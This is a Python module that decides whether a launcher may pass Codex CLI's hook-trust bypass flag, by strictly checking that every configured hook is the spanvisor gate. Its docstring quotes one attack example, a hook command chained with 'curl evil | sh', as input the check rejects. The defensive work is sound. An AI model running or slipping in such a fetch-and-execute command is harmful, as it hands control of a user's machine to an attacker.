"""Codex CLI's hook trust, as ``spanvisor run`` handles it.

Codex runs a configured hook only once it is trusted (its content hash
recorded in Codex's own config, by ``/hooks`` in its interface) or with
``--dangerously-bypass-hook-trust``; an untrusted hook is skipped
**silently**, so the gate would not stand in front of any call. Codex's
flag is meant for "automation that already vets hook sources": the
launcher vets them. When every hook command in the user's Codex config and
the project's is ``spanvisor hook`` (the gate), the launcher passes the
flag and says so once; when another command is among them, it does not
(that hook would run unreviewed too) and says that the gate may not run.

"Is the gate" is an exact match of the command's words, not a search for
``spanvisor`` and ``hook`` in them: ``spanvisor hook codex; curl evil | sh``
and ``sh -c "…" spanvisor hook`` in a cloned repository's config must not
get an attacker's hook run on the launcher's word.
"""

from __future__ import annotations

import os
import re
import shlex
import shutil
import sys
import tomllib
from collections.abc import Mapping
from pathlib import Path
from typing import Any

FLAG = "--dangerously-bypass-hook-trust"
_SUBCOMMANDS = ("exec", "e")


def hook_commands(env: Mapping[str, str], cwd: str) -> list[tuple[str | list[str], bool]]:
    """Every hook command in the user's and the project's Codex config,
    each with whether it comes from the project (a cloned repository's
    ``.codex/config.toml``, written by whoever wrote the repository)."""
    home = Path(env.get("CODEX_HOME") or os.path.join(env.get("HOME") or os.path.expanduser("~"), ".codex"))
    found: list[tuple[str | list[str], bool]] = []
    for path, project in ((home / "config.toml", False), (Path(cwd) / ".codex" / "config.toml", True)):
        try:
            doc = tomllib.loads(path.read_text(encoding="utf-8"))
        except (OSError, ValueError):
            continue
        found += [(c, project) for c in _commands(doc.get("hooks"))]
    return found


def _commands(hooks: Any) -> list[str | list[str]]:
    out: list[str | list[str]] = []
    if not isinstance(hooks, dict):
        return out
    for groups in hooks.values():
        for group in groups if isinstance(groups, list) else []:
            for entry in group.get("hooks", []) if isinstance(group, dict) else []:
                command = entry.get("command") if isinstance(entry, dict) else None
                if isinstance(command, str):
                    out.append(command)
                elif isinstance(command, list):
                    out.append([c if isinstance(c, str) else repr(c) for c in command])
                elif isinstance(entry, dict):
                    out.append(repr(entry))  # a hook that is no command (or a broken one): not the gate
    return out


# Every character a vetted hook command may hold: no shell syntax, no
# expansion ($, backticks), no escapes, no globs, no redirections.
_SAFE = frozenset("abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789 _@%+=:,./-'\"")
# The gate's options and whether each takes a value.
_OPTIONS = {"--policy": True, "--cli-timeout": True, "--url": True, "--token": True, "--endpoint": True}
_OPTIONS |= {"--otlp-token": True, "--central": True}
# Options that send the calls, or tokens, somewhere else, or turn the
# central floor off (--central off): never vouched for in a project's
# config (a cloned repository would read every tool call, or lower it).
_ELSEWHERE = frozenset({"--url", "--token", "--endpoint", "--otlp-token", "--central"})
# The gate's options that take no value (--at-terminal: a PermissionRequest
# is handed to the person at Codex's terminal; it allows nothing; --locked:
# the hook decides by its command line only).
_FLAGS = frozenset({"--at-terminal", "--locked"})
_PYTHON_FLAGS = frozenset({"-I", "-E", "-s", "-S", "-B", "-u", "-P"})


def is_gate(command: str | list[str], project: bool = False, cwd: str | None = None) -> bool:
    """Whether ``command`` is exactly ``spanvisor hook codex`` with the
    gate's own options: the ``spanvisor`` command (by name, or the path of
    this very install) or this Python with ``-m spanvisor.cli``, then
    ``hook codex``, then known options, and nothing a shell would read as
    more than words. In a project's config, no option that sends calls or
    tokens elsewhere, and no ``python -m`` (which imports from the working
    folder first) unless isolated (``-I``/``-P``)."""
    if isinstance(command, str):
        if not command.strip() or not set(command) <= _SAFE:
            return False
        try:
            argv = shlex.split(command)
        except ValueError:
            return False
    else:
        argv = list(command)
        if not argv or not all(set(a) <= _SAFE and a for a in argv):
            return False
    rest = _after_executable(argv, project, cwd)
    if rest is None or rest[:2] != ["hook", "codex"]:
        return False
    i = 2
    while i < len(rest):
        name, eq, _value = rest[i].partition("=")
        if name in _FLAGS and not eq:
            i += 1
            continue
        if name not in _OPTIONS or (project and name in _ELSEWHERE):
            return False
        if eq:
            i += 1
        elif i + 1 < len(rest) and not rest[i + 1].startswith("-"):
            i += 2
        else:
            return False
    return True


def _after_executable(argv: list[str], project: bool, cwd: str | None) -> list[str] | None:
    """The words after the gate's executable, or None when it is not the gate's."""
    first = argv[0]
    if first == "spanvisor" or (os.path.isabs(first) and _same_file(first, _our_spanvisors())):
        return argv[1:]
    python = re.fullmatch(r"python3?(\.\d+)?", first) is not None or (
        os.path.isabs(first) and _same_file(first, [sys.executable])
    )
    if not python:
        return None
    i = 1
    flags: set[str] = set()
    while i < len(argv) and argv[i] in _PYTHON_FLAGS:
        flags.add(argv[i])
        i += 1
    if argv[i : i + 2] != ["-m", "spanvisor.cli"]:
        return None
    isolated = bool(flags & {"-I", "-P"})
    if not isolated and (project or (cwd is not None and os.path.exists(os.path.join(cwd, "spanvisor")))):
        return None  # the working folder's own spanvisor/ would be imported instead
    return argv[i + 2 :]


def _our_spanvisors() -> list[str]:
    found = [str(Path(sys.executable).with_name("spanvisor"))]
    on_path = shutil.which("spanvisor")
    if on_path:
        found.append(on_path)
    if os.path.basename(sys.argv[0] if sys.argv else "") == "spanvisor":
        found.append(sys.argv[0])
    return found


def _same_file(path: str, candidates: list[str]) -> bool:
    try:
        real = os.path.realpath(path)
        return any(os.path.exists(c) and os.path.realpath(c) == real for c in candidates)
    except (OSError, ValueError):
        return False


def trusted(argv: list[str], env: Mapping[str, str], cwd: str) -> tuple[list[str], str | None]:
    """Codex's arguments with the trust flag where the launcher vets every
    hook, and what to tell the user (None: nothing)."""
    if FLAG in argv:
        return argv, None
    commands = hook_commands(env, cwd)
    if not commands:
        return argv, None
    if not all(is_gate(c, project, cwd) for c, project in commands):
        return argv, (
            "Codex's hooks include commands other than `spanvisor hook`: they are not trusted by the launcher, "
            "so Codex may skip them all silently (the gate would not run). Trust them in Codex (/hooks) or pass "
            f"{FLAG} yourself"
        )
    at = next((i + 1 for i, a in enumerate(argv[1:], 1) if a in _SUBCOMMANDS), 1)
    return [*argv[:at], FLAG, *argv[at:]], f"Codex's hooks are spanvisor's gate: running them with {FLAG}"


__all__ = ["FLAG", "hook_commands", "is_gate", "trusted"]
